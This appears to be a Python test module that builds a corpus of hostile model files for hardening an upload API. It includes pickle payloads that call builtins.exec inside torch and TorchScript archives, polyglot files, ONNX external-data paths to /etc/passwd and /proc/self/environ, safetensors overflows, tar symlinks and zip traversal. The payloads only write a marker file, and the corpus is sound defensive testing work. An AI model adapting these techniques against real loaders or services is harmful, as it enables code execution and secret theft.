"""Build the hostile model corpus: files that would run code, read the server's files, exhaust it,
or crash a parser. Each case names what it attacks and the upload's expected refusal.

    python -m tests.corpus.make_corpus OUT_DIR [MARKER_DIR]

writes every case under OUT_DIR and prints one line per case. tests/hardening/test_corpus.py builds
the corpus at test time (no binary is committed) and uploads each file through the real API.
Pickle payloads call `builtins.exec` or tests.corpus.canary.Canary, which write a marker file
under MARKER_DIR named after the case: present after a direct `torch.load(weights_only=False)` or
`pickle.loads`, absent after the upload.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import sys
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

CANARY = "tests.corpus.canary"


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    attack: str
    build: Callable[[Path, Path], None]  # (path to write, marker file) -> None
    # How the payload runs when loaded directly (the canary demonstration), or None.
    direct: str | None = None
    fields: tuple[tuple[str, str], ...] = ()


# ---------------------------------------------------------------------------------------------
# pickles, opcode by opcode


def _s(text: str, protocol: int) -> bytes:
    """A string push that every protocol reads (SHORT_BINUNICODE from 4, BINUNICODE 1-3, STRING 0)."""
    raw = text.encode()
    if protocol >= 4 and len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    if protocol >= 1:
        return b"X" + struct.pack("<I", len(raw)) + raw
    return b"V" + text.encode("raw_unicode_escape") + b"\n"


def _proto(protocol: int) -> bytes:
    return b"\x80" + bytes([protocol]) if protocol >= 2 else b""


def _global(module: str, name: str, protocol: int) -> bytes:
    if protocol >= 4:  # STACK_GLOBAL
        return _s(module, protocol) + _s(name, protocol) + b"\x93"
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"  # GLOBAL


def _exec_code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').write('payload ran')"


def reduce_pickle(marker: Path, protocol: int) -> bytes:
    """GLOBAL / STACK_GLOBAL builtins.exec, a one-tuple of code, REDUCE."""
    module = "__builtin__" if protocol < 3 else "builtins"  # protocols 0-2 spell Python 2 names
    return (
        _proto(protocol)
        + _global(module, "exec", protocol)
        + b"("
        + _s(_exec_code(marker), protocol)
        + b"tR."
    )


def inst_pickle(marker: Path) -> bytes:
    """Protocol 0 INST: MARK, the arguments, `i module\\nname\\n` calls the class with them."""
    return b"(" + _s(str(marker), 0) + b"i" + CANARY.encode() + b"\nCanary\n."


def obj_pickle(marker: Path) -> bytes:
    """Protocol 1 OBJ: MARK, the class, the arguments, `o` calls it."""
    return b"(" + _global(CANARY, "Canary", 1) + _s(str(marker), 1) + b"o."


def newobj_pickle(marker: Path) -> bytes:
    """Protocol 2 NEWOBJ: cls.__new__(cls, *args)."""
    return _proto(2) + _global(CANARY, "Canary", 2) + _s(str(marker), 2) + b"\x85\x81."


def newobj_ex_pickle(marker: Path) -> bytes:
    """Protocol 4 NEWOBJ_EX: cls.__new__(cls, *args, **kwargs)."""
    kwargs = b"}" + _s("marker", 4) + _s(str(marker), 4) + b"s"
    return _proto(4) + _global(CANARY, "Canary", 4) + b")" + kwargs + b"\x92."


def build_pickle(marker: Path) -> bytes:
    """BUILD: an empty object gets a state through its __setstate__."""
    state = b"}" + _s("marker", 2) + _s(str(marker), 2) + b"s"
    return _proto(2) + _global(CANARY, "Canary", 2) + b")\x81" + state + b"b."


def memo_stack_global_pickle(marker: Path) -> bytes:
    """STACK_GLOBAL whose names come back from the memo (BINGET), not from literal pushes."""
    return (
        _proto(4)
        + _s("builtins", 4) + b"\x94"  # MEMOIZE -> 0
        + _s("exec", 4) + b"\x94"  # MEMOIZE -> 1
        + b"0" + b"0"  # POP both
        + b"h\x00" + b"h\x01" + b"\x93"  # BINGET 0, BINGET 1, STACK_GLOBAL
        + _s(_exec_code(marker), 4) + b"\x85R."
    )  # fmt: skip


# ---------------------------------------------------------------------------------------------
# torch containers


def _tiny_module():  # type: ignore[no-untyped-def]
    import torch

    class Tiny(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.fc = torch.nn.Linear(4, 2)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return self.fc(x)

    torch.manual_seed(0)
    return Tiny()


def _torch_save_bytes() -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(_tiny_module().state_dict(), buffer)
    return buffer.getvalue()


def _replace_members(archive: bytes, replace: Callable[[str, bytes], bytes | None]) -> bytes:
    """Rewrite a zip: each member through `replace(name, data)` (None keeps it), stored uncompressed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info)
            new = replace(info.filename, data)
            dst.writestr(info.filename, data if new is None else new)
    return out.getvalue()


def torch_zip_with(payload: bytes, member: str = "data.pkl") -> bytes:
    return _replace_members(_torch_save_bytes(), lambda n, _d: payload if n.endswith("/" + member) else None)


def _torchscript_bytes() -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(_tiny_module()), buffer)
    return buffer.getvalue()


def _pt2_bytes(path: Path) -> bytes:
    import torch

    program = torch.export.export(_tiny_module(), (torch.randn(1, 4),))
    torch.export.save(program, str(path))
    return path.read_bytes()


def _write(data: bytes) -> Callable[[Path, Path], None]:
    return lambda path, _marker: path.write_bytes(data)


def _pickle_case(name: str, attack: str, make: Callable[[Path], bytes], direct: str = "torch.load") -> Case:
    return Case(
        name,
        f"{name}.pt",
        attack,
        lambda path, marker: path.write_bytes(torch_zip_with(make(marker))),
        direct=direct,
    )


def _torchscript_case(member: str) -> Case:
    def build(path: Path, marker: Path) -> None:
        path.write_bytes(
            _replace_members(
                _torchscript_bytes(),
                lambda n, _d: reduce_pickle(marker, 2) if n.endswith("/" + member) else None,
            )
        )

    return Case(
        f"torchscript_{member.replace('.', '_')}",
        f"torchscript_{member.replace('.', '_')}.pt",
        f"TorchScript archive whose {member} calls builtins.exec",
        build,
        direct="pickle.loads:" + member,
    )


def _pt2_nested(path: Path, marker: Path) -> None:
    # The exported program's sample inputs are themselves a torch.save archive: poison the inner one.
    inner_payload = newobj_ex_pickle(marker)

    def replace(name: str, data: bytes) -> bytes | None:
        if name.endswith("sample_inputs/model.pt"):
            return _replace_members(data, lambda n, _d: inner_payload if n.endswith("/data.pkl") else None)
        return None

    path.write_bytes(_replace_members(_pt2_bytes(path), replace))


def _pt2_extra_pickle(path: Path, marker: Path) -> None:
    original = _pt2_bytes(path)
    out = io.BytesIO(original)
    with zipfile.ZipFile(out, "a") as archive:
        root = archive.namelist()[0].split("/")[0]
        archive.writestr(f"{root}/data/constants/tensor_0.pkl", reduce_pickle(marker, 4))
    path.write_bytes(out.getvalue())


def _legacy_torch(path: Path, marker: Path) -> None:
    # torch.save's legacy format: magic number, protocol, system info, then the object (the payload).
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    path.write_bytes(
        magic + pickle.dumps(1001, protocol=2) + pickle.dumps({}, protocol=2) + reduce_pickle(marker, 2)
    )


def _polyglot_pickle_zip(path: Path, marker: Path) -> None:
    # A pickle in front, a valid torch.save zip behind it: zip readers find the archive from its end.
    path.write_bytes(reduce_pickle(marker, 4) + _torch_save_bytes())


def _polyglot_zip_pickle(path: Path, marker: Path) -> None:
    # A torch.save zip whose first member's bytes are also a loadable pickle at offset 30 + name:
    # and with a trailing pickle after the central directory.
    path.write_bytes(torch_zip_with(newobj_pickle(marker)) + reduce_pickle(marker, 2))


# ---------------------------------------------------------------------------------------------
# ONNX


def _onnx_graph(nodes=None, inputs=None, initializers=None, opset: int = 17, ir: int = 8):  # type: ignore[no-untyped-def]
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.ones((4, 2), dtype=np.float32), name="W")
    graph = helper.make_graph(
        nodes or [helper.make_node("MatMul", ["obs", "W"], ["act"])],
        "hostile",
        inputs or [helper.make_tensor_value_info("obs", TensorProto.FLOAT, ["batch", 4])],
        [helper.make_tensor_value_info("act", TensorProto.FLOAT, ["batch", 2])],
        initializer=initializers if initializers is not None else [w],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", opset)])
    model.ir_version = ir
    return model


def _onnx_external(location: str) -> Callable[[Path, Path], None]:
    def build(path: Path, _marker: Path) -> None:
        from onnx import TensorProto

        model = _onnx_graph()
        w = model.graph.initializer[0]
        w.ClearField("raw_data")
        w.ClearField("float_data")
        w.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "32")):
            entry = w.external_data.add()
            entry.key, entry.value = key, value
        path.write_bytes(model.SerializeToString())

    return build


def _onnx_absurd_initializer(path: Path, _marker: Path) -> None:
    from onnx import TensorProto, helper

    huge = helper.make_tensor("W", TensorProto.FLOAT, [1, 2], vals=b"\x00" * 8, raw=True)
    huge.ClearField("dims")
    huge.dims.extend([1 << 40, 1 << 40])  # declared past what the 8 bytes hold (onnx.helper refuses this)
    path.write_bytes(_onnx_graph(initializers=[huge]).SerializeToString())


def _onnx_absurd_input(path: Path, _marker: Path) -> None:
    from onnx import TensorProto, helper

    obs = helper.make_tensor_value_info("obs", TensorProto.FLOAT, [1 << 31, 1 << 31, 4])
    path.write_bytes(_onnx_graph(inputs=[obs]).SerializeToString())


def _pb_field(number: int, payload: bytes) -> bytes:
    """One length-delimited protobuf field (wire type 2)."""
    length, n = b"", len(payload)
    while True:
        byte, n = n & 0x7F, n >> 7
        length += bytes([byte | (0x80 if n else 0)])
        if not n:
            break
    return bytes([(number << 3) | 2]) + length + payload


def _onnx_deep_subgraphs(path: Path, _marker: Path) -> None:
    # If-nodes nested 300 deep, written byte by byte: the protobuf library itself refuses to build a
    # message this deep, and a parser without a depth limit would recurse past its stack.
    out = _pb_field(12, _pb_field(1, b"out"))  # GraphProto.output
    graph = _pb_field(1, _pb_field(1, b"obs") + _pb_field(2, b"out") + _pb_field(4, b"Identity")) + out
    for _ in range(300):
        attribute = _pb_field(1, b"then_branch") + _pb_field(6, graph) + b"\xa0\x01\x05"  # type=GRAPH
        node = _pb_field(1, b"cond") + _pb_field(2, b"out") + _pb_field(4, b"If") + _pb_field(5, attribute)
        graph = _pb_field(1, node) + _pb_field(2, b"level") + out
    opset = b"\x10\x11"  # OperatorSetIdProto.version = 17
    path.write_bytes(b"\x08\x08" + _pb_field(7, graph) + _pb_field(8, opset))  # ir_version 8, graph, opset


def _onnx_opset(opset: int, ir: int) -> Callable[[Path, Path], None]:
    return lambda path, _m: path.write_bytes(_onnx_graph(opset=opset, ir=ir).SerializeToString())


# ---------------------------------------------------------------------------------------------
# safetensors


def _safetensors(header: dict, data: bytes, header_len: int | None = None) -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if header_len is None else header_len) + raw + data


_F32_2x2 = {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}


def _st(header: dict, data: bytes, header_len: int | None = None) -> Callable[[Path, Path], None]:
    return _write(_safetensors(header, data, header_len))


# ---------------------------------------------------------------------------------------------
# Keras HDF5


def _keras_config(nested_lambda: bool) -> dict:
    lam = {"class_name": "Lambda", "config": {"name": "evil", "function": ["4wEAAAAAAAAA", None, None]}}
    dense = {"class_name": "Dense", "config": {"name": "dense", "units": 2}}
    if not nested_lambda:
        return {"class_name": "Sequential", "config": {"name": "outer", "layers": [dense, lam]}}
    inner = {"class_name": "Sequential", "config": {"name": "inner", "layers": [dense, lam]}}
    middle = {"class_name": "Functional", "config": {"name": "middle", "layers": [inner]}}
    return {"class_name": "Functional", "config": {"name": "outer", "layers": [dense, middle]}}


def _h5(nested: bool) -> Callable[[Path, Path], None]:
    def build(path: Path, _marker: Path) -> None:
        import h5py
        import numpy as np

        with h5py.File(path, "w") as h5:
            h5.attrs["model_config"] = json.dumps(_keras_config(nested))
            h5.attrs["keras_version"] = "2.15.0"
            h5.create_dataset("model_weights/dense/kernel", data=np.ones((4, 2), dtype=np.float32))

    return build


# ---------------------------------------------------------------------------------------------
# archives of model directories


def _zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


_HF_CONFIG = json.dumps({"model_type": "bert", "architectures": ["BertModel"]}).encode()


def _tar_with_symlink(path: Path, _marker: Path) -> None:
    with tarfile.open(path, "w") as tar:
        config = tarfile.TarInfo("model/config.json")
        config.size = len(_HF_CONFIG)
        tar.addfile(config, io.BytesIO(_HF_CONFIG))
        link = tarfile.TarInfo("model/model.safetensors")
        link.type = tarfile.SYMTYPE
        link.linkname = "/etc/passwd"
        tar.addfile(link)


def _zip_traversal(path: Path, _marker: Path) -> None:
    path.write_bytes(_zip_of({"model/config.json": _HF_CONFIG, "../../../../tmp/robopt-escaped.txt": b"x"}))


def _hf_dir_with_pickle(path: Path, marker: Path) -> None:
    path.write_bytes(
        _zip_of(
            {
                "model/config.json": _HF_CONFIG,
                "model/pytorch_model.bin": torch_zip_with(reduce_pickle(marker, 2)),
            }
        )
    )


# ---------------------------------------------------------------------------------------------
# truncation of every format


def _truncated(
    make: Callable[[Path, Path], None], suffix: str, keep: float = 0.6
) -> Callable[[Path, Path], None]:
    def build(path: Path, marker: Path) -> None:
        whole = path.with_name(path.stem + ".whole" + suffix)
        make(whole, marker)
        data = whole.read_bytes()
        whole.unlink()
        path.write_bytes(data[: max(1, int(len(data) * keep))])

    return build


def _good_onnx(path: Path, _m: Path) -> None:
    path.write_bytes(_onnx_graph().SerializeToString())


def _good_state_dict(path: Path, _m: Path) -> None:
    path.write_bytes(_torch_save_bytes())


def _good_torchscript(path: Path, _m: Path) -> None:
    path.write_bytes(_torchscript_bytes())


def _good_safetensors(path: Path, _m: Path) -> None:
    path.write_bytes(_safetensors({"w": _F32_2x2}, b"\x00" * 16))


def _good_pb(path: Path, _m: Path) -> None:
    # A well-formed protobuf message: field 1 (length-delimited) holding 40 bytes.
    path.write_bytes(b"\x0a\x28" + b"n" * 40 + b"\x10\x05")


def _good_pt2(path: Path, _m: Path) -> None:
    _pt2_bytes(path)


def _good_zip_dir(path: Path, _m: Path) -> None:
    path.write_bytes(_zip_of({"model/config.json": _HF_CONFIG, "model/model.safetensors": b"\x00" * 4096}))


def _good_h5(path: Path, marker: Path) -> None:
    import h5py
    import numpy as np

    with h5py.File(path, "w") as h5:
        h5.create_dataset("w", data=np.ones((64, 64), dtype=np.float32))


MLP_ARCH = json.dumps({"name": "mlp_policy", "config": {"obs_dim": 4, "act_dim": 2, "hidden": [8]}})


def cases() -> list[Case]:
    out: list[Case] = []
    for protocol in range(6):
        opcode = "STACK_GLOBAL" if protocol >= 4 else "GLOBAL"
        out.append(
            _pickle_case(
                f"reduce_protocol{protocol}",
                f"torch.save zip whose data.pkl is protocol {protocol}: {opcode} builtins.exec + REDUCE",
                lambda m, p=protocol: reduce_pickle(m, p),
            )
        )
    out += [
        _pickle_case("inst", "torch.save zip, data.pkl uses INST (protocol 0) to call a class", inst_pickle),
        _pickle_case("obj", "torch.save zip, data.pkl uses OBJ (protocol 1) to call a class", obj_pickle),
        _pickle_case("newobj", "torch.save zip, data.pkl uses NEWOBJ (protocol 2)", newobj_pickle),
        _pickle_case(
            "newobj_ex", "torch.save zip, data.pkl uses NEWOBJ_EX (protocol 4) with kwargs", newobj_ex_pickle
        ),
        _pickle_case(
            "build", "torch.save zip, data.pkl sets state by BUILD (__setstate__ runs)", build_pickle
        ),
        _pickle_case(
            "stack_global_memo",
            "torch.save zip, STACK_GLOBAL with names fetched from the memo (no literal strings)",
            memo_stack_global_pickle,
        ),
        Case(
            "legacy_torch_pickle",
            "legacy.pth",
            "legacy (non-zip) torch.save: magic, then a REDUCE payload",
            _legacy_torch,
            direct="torch.load",
        ),
        Case(
            "plain_pickle",
            "plain.pt",
            "a bare pickle (no torch container) that calls builtins.exec",
            lambda p, m: p.write_bytes(reduce_pickle(m, 5)),
            direct="pickle.loads",
        ),
        _torchscript_case("data.pkl"),
        _torchscript_case("constants.pkl"),
        Case(
            "pt2_nested_archive",
            "nested.pt2",
            ".pt2 whose nested sample_inputs torch.save archive is poisoned (NEWOBJ_EX)",
            _pt2_nested,
            direct="torch.load:sample_inputs/model.pt",
        ),
        Case(
            "pt2_extra_pickle",
            "extra.pt2",
            ".pt2 with an added constants pickle that calls builtins.exec",
            _pt2_extra_pickle,
            direct="pickle.loads:tensor_0.pkl",
        ),
        Case(
            "polyglot_pickle_then_zip",
            "polyglot.pt",
            "a pickle payload in front of a valid torch.save zip",
            _polyglot_pickle_zip,
            direct="pickle.loads",
        ),
        Case(
            "polyglot_zip_then_pickle",
            "polyglot2.pt",
            "a poisoned torch.save zip with a pickle appended",
            _polyglot_zip_pickle,
            direct="torch.load",
        ),
        Case("polyglot_zip_as_onnx", "zip.onnx", "a torch.save zip named .onnx", _good_state_dict),
        Case(
            "onnx_external_absolute",
            "abs.onnx",
            "ONNX external data at an absolute path (/etc/passwd)",
            _onnx_external("/etc/passwd"),
        ),
        Case(
            "onnx_external_traversal",
            "dotdot.onnx",
            "ONNX external data at ../../../etc/shadow",
            _onnx_external("../../../etc/shadow"),
        ),
        Case(
            "onnx_external_proc",
            "proc.onnx",
            "ONNX external data through /proc/self/environ (the secrets)",
            _onnx_external("/proc/self/environ"),
        ),
        Case(
            "onnx_absurd_initializer",
            "huge_init.onnx",
            "initializer declaring 2^80 floats with 8 bytes of data",
            _onnx_absurd_initializer,
        ),
        Case(
            "onnx_absurd_input",
            "huge_input.onnx",
            "input declared [2^31, 2^31, 4]: synthesizing it would exhaust memory",
            _onnx_absurd_input,
        ),
        Case("onnx_deep_subgraphs", "deep.onnx", "If-subgraphs nested 300 deep", _onnx_deep_subgraphs),
        Case(
            "onnx_future_opset", "opset99.onnx", "opset 99, which no runtime implements", _onnx_opset(99, 8)
        ),
        Case("onnx_future_ir", "ir99.onnx", "IR version 99", _onnx_opset(17, 99)),
        Case(
            "safetensors_header_overflow",
            "overflow.safetensors",
            "header length 2^64-1",
            _st({"w": _F32_2x2}, b"\x00" * 16, header_len=(1 << 64) - 1),
        ),
        Case(
            "safetensors_header_past_end",
            "past.safetensors",
            "header length past the end of the file",
            _st({"w": _F32_2x2}, b"\x00" * 16, header_len=10_000),
        ),
        Case(
            "safetensors_overlap",
            "overlap.safetensors",
            "two tensors over the same bytes",
            _st({"a": _F32_2x2, "b": _F32_2x2}, b"\x00" * 16),
        ),
        Case(
            "safetensors_out_of_file",
            "oof.safetensors",
            "a tensor ending past the data section",
            _st({"w": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 64]}}, b"\x00" * 16),
        ),
        Case(
            "safetensors_dtype_shape_mismatch",
            "mismatch.safetensors",
            "F64[2,2] over a 16-byte span",
            _st({"w": {"dtype": "F64", "shape": [2, 2], "data_offsets": [0, 16]}}, b"\x00" * 16),
        ),
        Case(
            "safetensors_negative_offset",
            "neg.safetensors",
            "negative and reversed offsets",
            _st({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [16, -8]}}, b"\x00" * 16),
        ),
        Case(
            "h5_lambda_top", "lambda.h5", "Keras model with a Lambda layer (serialized bytecode)", _h5(False)
        ),
        Case(
            "h5_lambda_nested",
            "nested_lambda.h5",
            "Lambda inside a Sequential inside a Functional model",
            _h5(True),
        ),
        Case(
            "tar_symlink",
            "link.tar",
            "model directory whose safetensors is a symlink to /etc/passwd",
            _tar_with_symlink,
        ),
        Case("zip_traversal", "escape.zip", "model directory archive with a ../ member", _zip_traversal),
        Case(
            "zip_hf_pickle",
            "hfpickle.zip",
            "transformers directory whose pytorch_model.bin runs exec",
            _hf_dir_with_pickle,
            direct="torch.load:pytorch_model.bin",
        ),
    ]
    truncations = [
        ("onnx", ".onnx", _good_onnx),
        ("state_dict", ".pt", _good_state_dict),
        ("torchscript", ".pt", _good_torchscript),
        ("pt2", ".pt2", _good_pt2),
        ("safetensors", ".safetensors", _good_safetensors),
        ("h5", ".h5", _good_h5),
        ("pb", ".pb", _good_pb),
        ("zip_dir", ".zip", _good_zip_dir),
    ]
    for name, suffix, make in truncations:
        fields = (("architecture", MLP_ARCH),) if name in ("state_dict", "safetensors") else ()
        out.append(
            Case(
                f"truncated_{name}",
                f"truncated_{name}{suffix}",
                f"a {name} file cut at 60%",
                _truncated(make, suffix),
                fields=fields,
            )
        )
    return out


def build_all(out_dir: Path, marker_dir: Path) -> list[tuple[Case, Path, Path]]:
    """Write every case; return (case, file, marker) triples."""
    out_dir.mkdir(parents=True, exist_ok=True)
    marker_dir.mkdir(parents=True, exist_ok=True)
    built = []
    for case in cases():
        path = out_dir / case.filename
        marker = marker_dir / f"{case.name}.ran"
        case.build(path, marker)
        built.append((case, path, marker))
    return built


def main(argv: list[str]) -> None:
    out = Path(argv[1]) if len(argv) > 1 else Path("corpus-out")
    markers = Path(argv[2]) if len(argv) > 2 else out / "markers"
    for case, path, _marker in build_all(out, markers):
        print(f"{case.name:34s} {path.stat().st_size:9d} B  {case.attack}")


if __name__ == "__main__":
    main(sys.argv)
